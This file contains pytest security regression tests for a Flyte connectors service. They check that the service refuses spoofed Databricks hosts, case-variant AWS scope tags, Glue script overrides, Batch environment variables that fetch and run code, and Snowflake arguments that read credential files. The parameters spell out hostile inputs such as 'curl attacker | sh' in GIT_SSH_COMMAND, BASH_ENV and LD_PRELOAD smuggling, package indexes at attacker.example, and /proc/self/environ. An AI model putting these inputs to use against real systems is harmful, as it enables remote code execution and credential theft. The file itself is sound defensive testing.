"""Issue 18, reviewed as a hostile task author: what a template could still widen, through the served
app against the fake AWS (moto's server) and loopback listeners.

Each test's docstring says what happened before its fix. The ones marked "held" are attacks that
failed already; they stay as guards.
"""

from __future__ import annotations

import uuid
from typing import Any

import pytest

from connectors.builtin.aws.base import SCOPE_TAG_KEY_ENV, SCOPE_TAG_VALUE_ENV
from connectors.builtin.aws.batch import AwsBatchJobConnector
from connectors.builtin.aws.emr_serverless import EmrServerlessJobConnector
from connectors.builtin.aws.glue import GlueJobConnector
from connectors.builtin.aws.sagemaker_processing import SageMakerProcessingJobConnector
from connectors.builtin.aws.sagemaker_training import SageMakerTrainingJobConnector
from connectors.builtin.flyteplugins.databricks import DatabricksConnector
from connectors.dev.aws_resources.glue_job import JOB_NAME
from connectors.errors import Code
from tests.functional.aws import test_aws_batch_job as batch
from tests.functional.aws import test_emr_serverless_job as emr
from tests.functional.aws import test_sagemaker_processing_job as processing
from tests.functional.aws import test_sagemaker_training_job as training
from tests.functional.flyteplugins.test_issue18_credential_hosts import (
    Listener,
    databricks_request,
    no_list,
    secrets_world,
)

KEY, VALUE = "flyte-connectors", "flyte-staging"


def a_run() -> str:
    return f"r{uuid.uuid4().hex[:12]}"


def batch_jobs_of(world: Any, run: str) -> list[dict[str, Any]]:
    found = world.boto("batch").list_jobs(
        jobQueue=batch.BASE["job_queue"], filters=[{"name": "JOB_NAME", "values": [f"{run}*"]}]
    )
    return found["jobSummaryList"]


# -- 1. credential hosts: only ASCII case is folded ------------------------------------------------


def test_a_workspace_that_folds_to_a_listed_one_only_by_unicode_case_folding_is_not_listed(aws_world, monkeypatch):
    """Before: hosts were compared ``casefold()``ed, and "ß" folds to "ss": with
    ``dbc-1.massive-corp.example`` listed, a task naming ``dbc-1.maßive-corp.example`` passed the
    check, and httpx sent the token to ``dbc-1.xn--maive-corp-...example`` (IDNA 2008 keeps "ß"),
    a domain anyone may register: the answer was ``unavailable`` (that host did not resolve here),
    the token on its way out. Now it is ``permission_denied`` before any connection."""
    no_list(monkeypatch, "FLYTE_DATABRICKS_INSTANCE")
    monkeypatch.setenv("FLYTE_DATABRICKS_ALLOWED_INSTANCES", "dbc-1.massive-corp.example")
    world = secrets_world(aws_world, monkeypatch, DatabricksConnector(), "databricks", {"databricks_token": "dapi-x"})
    error = world.error(world.create, databricks_request(world, "dbc-1.maßive-corp.example"))
    assert error.code == Code.PERMISSION_DENIED, error.message
    assert "xn--" not in error.message


@pytest.mark.parametrize(
    "instance",
    [
        "dbc-1.cloud.example@evil.example",  # userinfo: the host is evil.example
        "evil.example#@dbc-1.cloud.example",
        "dbc-1.cloud.example.evil.example",
        "dbc-1.cloud.example:8443",  # another port of the listed host: not listed
        "dbc-1.cloud.example/../",
        "127.0.0.1",
        "[::1]",
    ],
)
def test_held_a_workspace_spelled_around_the_listed_one_is_refused_before_any_connection(
    aws_world, monkeypatch, instance
):
    """Held before the review: each is compared whole, so none is the listed host."""
    no_list(monkeypatch, "FLYTE_DATABRICKS_INSTANCE")
    monkeypatch.setenv("FLYTE_DATABRICKS_ALLOWED_INSTANCES", "dbc-1.cloud.example, DBC-2.cloud.example.")
    listener = Listener()
    try:
        world = secrets_world(aws_world, monkeypatch, DatabricksConnector(), "databricks", {"databricks_token": "x"})
        error = world.error(world.create, databricks_request(world, instance))
        assert error.code == Code.PERMISSION_DENIED, error.message
        assert listener.connections == 0
    finally:
        listener.close()


# -- 2. the scope tag's key in another case ---------------------------------------------------------


@pytest.fixture
def scoped(monkeypatch):
    monkeypatch.setenv(SCOPE_TAG_KEY_ENV, KEY)
    monkeypatch.setenv(SCOPE_TAG_VALUE_ENV, VALUE)


@pytest.mark.parametrize(
    ("connector", "task_type", "custom"),
    [
        (AwsBatchJobConnector, batch.TYPE, {**batch.BASE, "tags": {"Flyte-Connectors": "another-stack"}}),
        (EmrServerlessJobConnector, emr.TYPE, emr.custom(tags={"FLYTE-CONNECTORS": "another-stack"})),
        (SageMakerTrainingJobConnector, training.TYPE, training.custom(tags={"Flyte-Connectors": "another-stack"})),
        (
            SageMakerProcessingJobConnector,
            processing.TYPE,
            processing.custom(tags=[{"Key": "FLYTE-connectors", "Value": "another-stack"}]),
        ),
    ],
    ids=["batch", "emr-serverless", "sagemaker-training", "sagemaker-processing"],
)
def test_a_template_may_not_set_the_scope_tags_key_in_another_case(aws_world, scoped, connector, task_type, custom):
    """Before: only the exact key was refused, so a template's ``Flyte-Connectors: another-stack``
    was sent beside the connector's ``flyte-connectors: flyte-staging``, and the job was started
    carrying both (Batch, EMR Serverless and SageMaker keep keys that differ in case apart). IAM
    reads the key of ``aws:RequestTag/flyte-connectors`` and ``aws:ResourceTag/...`` without regard
    to case, so the job carried two values of the one tag the service is scoped by: another
    stack's to match, or this one's to refuse its stop."""
    world = aws_world(connector())
    run = a_run()
    error = world.error(world.create, world.request(task_type, custom, run=run))
    assert error.code == Code.INVALID_ARGUMENT, error.message
    assert KEY in error.message and "in any case" in error.message
    assert all(record.resource_meta is None for record in world.records(run).values()), "a job was started"


# -- 3. Glue arguments in their option-parser spelling ------------------------------------------------


@pytest.mark.parametrize(
    "key", ["--scriptLocation=s3://attacker/evil.py", "--extra-py-files =s3://x/y.zip", "--CONF=x"]
)
def test_a_glue_argument_that_chooses_code_is_refused_in_its_equals_spelling(aws_world, monkeypatch, key):
    """Before: the name was compared whole, so ``--scriptLocation=s3://attacker/evil.py`` (the
    ``--name=value`` form every option parser reads as ``--scriptLocation``) was not one of the
    job's code arguments and the run started with it."""
    monkeypatch.delenv("GLUE_ALLOWED_CODE_ARGUMENTS", raising=False)
    world = aws_world(GlueJobConnector())
    before = len(world.boto("glue").get_job_runs(JobName=JOB_NAME, MaxResults=200)["JobRuns"])
    custom = {"job_name": JOB_NAME, "arguments": {"--day": "monday", key: "x"}}
    error = world.error(world.create, world.request("glue_job", custom))
    assert error.code == Code.INVALID_ARGUMENT and "GlueAllowedCodeArguments" in error.message, error.message
    assert len(world.boto("glue").get_job_runs(JobName=JOB_NAME, MaxResults=200)["JobRuns"]) == before


# -- 4. Batch: variables that make the job fetch or run other code -----------------------------------


@pytest.mark.parametrize(
    "name, value",
    [
        ("GIT_SSH_COMMAND", "sh -c 'curl attacker | sh'"),
        ("GIT_CONFIG_KEY_0", "core.fsmonitor"),
        ("GIT_CONFIG_PARAMETERS", "'core.sshCommand'='curl attacker|sh'"),
        ("PIP_INDEX_URL", "http://attacker.example/simple"),
        ("UV_INDEX_URL", "http://attacker.example/simple"),
        ("AWS_ENDPOINT_URL", "http://attacker.example"),
        ("aws_endpoint_url_s3", "http://attacker.example"),
        ("npm_config_script_shell", "/tmp/x"),
        ("LUA_INIT", "os.execute('curl attacker|sh')"),
        ("BASH_ENV=$(curl attacker|sh)#", ""),
        ("LD_PRELOAD=/tmp/x.so:", ""),
    ],
)
def test_a_batch_variable_that_makes_the_job_fetch_or_run_other_code_is_refused(aws_world, monkeypatch, name, value):
    """Before: only the shell's, the loader's and the language runtimes' own variables were
    refused, so git's (GIT_SSH_COMMAND, GIT_CONFIG_*: commands git runs), pip's and uv's index
    (the packages a job installs at start), AWS_ENDPOINT_URL (the S3 a job downloads its script
    from), npm's and Lua's were passed to the container; and a name with ``=`` in it
    (``BASH_ENV=$(...)#``, which a container's ``NAME=VALUE`` environment reads as BASH_ENV) was
    not recognised at all. Each job was submitted."""
    monkeypatch.delenv("BATCH_ALLOWED_OVERRIDES", raising=False)
    world = aws_world(AwsBatchJobConnector())
    run = a_run()
    error = world.error(world.create, world.request(batch.TYPE, {**batch.BASE, "environment": {name: value}}, run=run))
    assert error.code == Code.INVALID_ARGUMENT and "BatchAllowedOverrides" in error.message, error.message
    assert batch_jobs_of(world, run) == []


# -- 5. Snowflake: connect() arguments that read the function's own files -----------------------------


@pytest.mark.parametrize(
    "kwargs",
    [
        {"token_file_path": "/proc/self/environ"},
        {"connections_file_path": "/tmp/connections.toml", "connection_name": "prod"},
    ],
    ids=["token-file", "connections-file"],
)
def test_snowflake_connection_kwargs_may_not_name_the_functions_files(aws_world, monkeypatch, kwargs):
    """Before: ``token_file_path``, ``connection_name`` and ``connections_file_path`` were not
    among the refused connect() arguments, so they reached the driver, which reads the token
    file whole (``/dev/zero`` never ends; ``/proc/self/environ`` holds the function's AWS
    credentials) and takes a connections.toml's host and credentials. The client factory was
    asked to connect with them; now the task is ``permission_denied`` before any connection."""
    from connectors.builtin.flyteplugins import snowflake as port
    from connectors.builtin.flyteplugins import snowflake_connections as connections
    from tests.fake_snowflake import FakeSnowflake
    from tests.functional.flyteplugins import test_snowflake as snowflake

    fake = FakeSnowflake()
    monkeypatch.setattr(connections, "snowflake_connect", fake.connect)
    monkeypatch.setenv("FLYTE_SNOWFLAKE_ALLOWED_ACCOUNTS", snowflake.CUSTOM["account"])
    connections._connections.clear()
    try:
        world = secrets_world(
            aws_world,
            monkeypatch,
            port.SnowflakeConnector(),
            "snowflake",
            {"snowflake_private_key": snowflake.rsa_pem()},
        )
        error = world.error(world.create, snowflake.request({"connection_kwargs": kwargs}))
        assert error.code == Code.PERMISSION_DENIED, error.message
        assert all(name in error.message for name in kwargs)
        assert fake.connects == [], "the client was asked to connect"
    finally:
        connections._connections.clear()


# -- 6. principals: the routes the earlier tests did not cover ----------------------------------------


@pytest.fixture
def ledger(dynamodb_client, tmp_path):
    from tests.ledger_world import LedgerWorld

    with LedgerWorld(dynamodb_client, tmp_path / "ledger.json") as world:
        yield world


@pytest.mark.parametrize("operation", ["GetTaskLogs", "GetTask", "GetTaskMetrics", "DeleteTask"])
def test_held_another_principal_gets_nothing_over_the_rest_routes(ledger, operation):
    """Held before the review: the REST routes (the handle in the path) find the record through
    the same check as Connect's, for GetTaskLogs too, which the earlier tests did not call; the
    same role in another session is the same principal."""
    import base64
    import json

    from connectors.dev.events import http_api_event
    from connectors.runtime import lambda_handler
    from connectors.transport.rest import REST_OPERATIONS
    from tests.conftest import LambdaContext
    from tests.functional.test_issue18_attempts_and_principals import Lambda, signed_by

    victim, attacker = signed_by("flyte-executor"), signed_by("data-scientist")
    handle = Lambda(ledger).create(ledger.request(a_run(), 0), victim)
    method, template = REST_OPERATIONS[operation]
    path = template.format(
        name="ledger", version=0, resource_meta=base64.urlsafe_b64encode(handle).decode().rstrip("=")
    )
    handler = lambda_handler([operation], service=ledger.service)

    def status(iam: dict[str, Any]) -> tuple[int, str]:
        answer = handler(http_api_event(method, path, iam=iam), LambdaContext())
        body = base64.b64decode(answer["body"]) if answer.get("isBase64Encoded") else answer["body"].encode()
        return answer["statusCode"], json.loads(body or b"{}").get("code", "") if answer["statusCode"] != 200 else ""

    assert status(attacker) == (403, "permission_denied")
    assert ledger.jobs() == {"job-1": "running"}
    # The owner passes the check (the ledger serves no metrics: 501 there).
    assert status(signed_by("flyte-executor", "another-session"))[0] in (200, 501)
